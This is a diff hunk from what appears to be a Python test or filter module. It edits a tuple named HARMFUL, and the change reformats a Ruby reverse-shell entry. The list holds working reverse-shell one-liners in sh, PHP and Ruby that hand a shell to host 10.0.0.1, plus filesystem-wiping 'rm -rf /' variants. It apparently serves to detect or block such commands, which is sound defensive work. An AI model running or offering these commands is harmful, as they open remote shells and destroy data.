@@ -36,7 +36,7 @@ HARMFUL = (
     "sh -i >& /dev/udp/10.0.0.1/8080 0>&1",
     "0<&196;exec 196<>/dev/tcp/10.0.0.1/4242; sh <&196 >&196 2>&196",
     'php -r \'$sock=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");\'',
-    "ruby -rsocket -e'f=TCPSocket.open(%s,9).to_i;exec(%s)'" % ('"10.0.0.1"', '"/bin/sh"'),
+    "ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",9).to_i;exec(\"/bin/sh\")'",
     "rm -fr /",
     "rm -rf --no-preserve-root /",
     "sudo rm -rf /*",
